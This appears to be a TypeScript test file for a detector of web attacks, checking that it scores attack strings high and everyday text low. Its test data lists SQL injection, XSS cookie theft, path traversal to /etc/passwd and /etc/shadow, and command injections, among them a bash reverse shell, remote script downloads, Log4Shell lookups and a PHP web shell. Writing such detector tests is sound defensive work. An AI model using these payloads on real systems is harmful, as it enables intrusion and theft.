import assert from 'node:assert/strict';
import fc from 'fast-check';
import { findSigns, scanningTool } from '../../../../../src/core/detectors/web/attackSigns';
import type { WebAttackKind } from '../../../../../src/core/detectors/web/attackSigns';
import { formTexts, jsonTexts, targetTexts, webText } from '../../../../../src/core/detectors/web/webText';

const attackPoints = 4;

function pointsOf(text: string): number {
  return findSigns(webText('test', text))?.points ?? 0;
}

const attacks: Record<Exclude<WebAttackKind, 'tool'>, string[]> = {
  sql: [
    '1 UNION SELECT id,login,secret FROM users--',
    '-1+union+all+select+1,group_concat(login),3+from+users'.replace(/\+/g, ' '),
    '1/**/UNION/**/SELECT/**/1,2,3',
    "admin' --",
    "' OR 'a'='a",
    "x' AND SLEEP(5)#",
    "1' AND 1=1-- -",
    '1) AND 4837=4837 AND (2841=2841',
    "1' AND (SELECT 2489 FROM(SELECT COUNT(*),CONCAT(0x7162,(SELECT (ELT(2489=2489,1))),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- x",
    '1;SELECT PG_SLEEP(5)--',
    "1'; WAITFOR DELAY '0:0:5'--",
    '1;INSERT INTO users VALUES(1,2)--',
    "1' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT database())))-- -",
    '%2531%2520%2555NION%2520%2553ELECT%25201,2%2523',
    "1'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) FROM DUAL)||'",
    '1 AND (SELECT COUNT(*) FROM sqlite_master)>0',
    '1 AND ASCII(SUBSTRING(user(),1,1))>64',
    '1 AND ORD(MID(DATABASE(),1,1))>64',
  ],
  xss: [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(document.cookie)>',
    '<svg/onload=alert(1)>',
    '<body onload=alert(1)>',
    'javascript:alert(1)',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '%u003cscript%u003ealert(1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<a href="javascript:document.location=1">',
    '" autofocus onfocus=alert(1) x="',
    '<details open ontoggle=confirm(1)>',
  ],
  traversal: [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '%252e%252e%252f%252e%252e%252fetc/passwd',
    '..%c0%af..%c0%af..%c0%af..%c0%afwindows/win.ini',
    '....//....//....//....//etc/shadow',
    '..\\..\\..\\..\\boot.ini',
  ],
  command: [
    '127.0.0.1; cat /etc/passwd',
    '127.0.0.1 | wget http://198.51.100.7/a.sh',
    '$(curl http://198.51.100.7/x)',
    '${jndi:ldap://198.51.100.7/a}',
    '${${lower:j}ndi:ldap://198.51.100.7/a}',
    '() { :;}; /bin/bash -c "id"',
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    "<?php system($_GET['c']); ?>",
    '{{config.__class__}}',
  ],
};

/** What people and programs send every day. */
const ordinary = [
  "O'Reilly books",
  'select a union flag from the shop',
  'select a table from our union shop',
  'drop table tennis',
  'where is my order',
  '1=1 is true',
  'insert coin',
  '5 < 6 and 7 > 2',
  'C++ & C# -- which?',
  'script font free',
  "rock'n'roll or jazz",
  'image onload gallery',
  'how to alert() in javascript',
  'union station; parking',
  "I <3 this shop, it's great; will order again -- Tom",
  'Update: select the blue one from the list, then delete the old entry',
  'price < 20 or > 30?',
  "It's 50% off, isn't it? (really)",
  "O'Brien and O'Hara or O'Neil",
  'if (a < b || c > d) { return x; } // C++ code',
  'for (int i = 0; i < n; i++) { total += prices[i]; }',
  '#include <vector>\nint main() { std::vector<int> v; return 0; }',
  'dogs && cats; birds | fish',
  'SELECT mean("value") FROM "cpu" WHERE time > now() - 1h GROUP BY time(10s)',
  'SELECT Id, Name FROM Account ORDER BY Name LIMIT 10',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N',
  'aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgYmFzZTY0IHRleHQ='.repeat(20),
  '<p>Hello <b>world</b>, see <a href="https://example.test/">here</a></p>',
  'rate(http_requests_total{job="api",code=~"5.."}[5m]) > 0 and on() vector(1)',
  'https://example.test/back?next=%2Fhome%3Fa%3D1%26b%3D2',
  'the union select committee met on monday',
  'C:\\Users\\Tom\\Documents\\report.docx',
  "it's 1 or 2 of 3; maybe 4",
  '../images/logo.png',
  'Tom & Jerry -- the movie #1',
  'can I sue? they made me waitfor delay flight',
  'mid (left) and substring (right) of the word',
];

describe('signs of web attacks', () => {
  for (const [kind, texts] of Object.entries(attacks)) {
    for (const text of texts) {
      it(`${kind}: ${text.slice(0, 60)}`, () => {
        const found = findSigns(webText('test', text));
        assert.equal(found?.kind, kind);
        assert.ok(found.points >= attackPoints, `${found.points}: ${found.names.join(', ')}`);
      });
    }
  }

  for (const text of ordinary) {
    it(`leaves alone: ${text.slice(0, 60)}`, () => {
      assert.ok(pointsOf(text) < attackPoints, JSON.stringify(findSigns(webText('test', text))));
    });
  }

  it('reads each parameter by itself, so that odd words of several do not add up', () => {
    const texts = targetTexts("/search?a=O'Brien&b=select+from&c=1;2&d=--");
    assert.ok(texts.every((text) => (findSigns(text)?.points ?? 0) < attackPoints));
    assert.deepEqual(
      targetTexts('/item?id=1%27+OR+1%3D1--').map(({ where, text }) => [where, text]),
      [['parameter id', "1' or 1=1--"]],
    );
    assert.deepEqual(
      jsonTexts('{"a":"x\\u003cscript\\u003e","b":"plain"').map((each) => each.text),
      ['x<script>'],
    );
    assert.equal(formTexts('user=tom&comment=fine').length, 0);
  });

  it('counts encoding in rounds as a sign, and decodes no further than three', () => {
    assert.equal(webText('x', '%2525253cb').text, '%3cb');
    assert.equal(webText('x', '%253Cscript%253E').rounds, 2);
  });

  it('knows scanning tools by name, and no browser', () => {
    assert.equal(scanningTool('sqlmap/1.7.2#stable (https://sqlmap.org)'), 'sqlmap');
    assert.equal(scanningTool('Mozilla/5.00 (Nikto/2.1.6)'), 'nikto');
    assert.equal(scanningTool('Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'), null);
    assert.equal(scanningTool('curl/8.5.0'), null);
  });

  it('never throws, and takes no more time for long repetitive text', function () {
    this.timeout(20_000);
    fc.assert(fc.property(fc.string({ maxLength: 300 }), (text) => void findSigns(webText('x', text))));
    for (const piece of ["'", '(select ', '<a ', '../', '${', "' or ", ';', '%25', 'union select ', '`', '&#x']) {
      findSigns(webText('x', piece.repeat(2000)));
      targetTexts(`/?${`${piece}=&`.repeat(1000)}`);
    }
  });
});
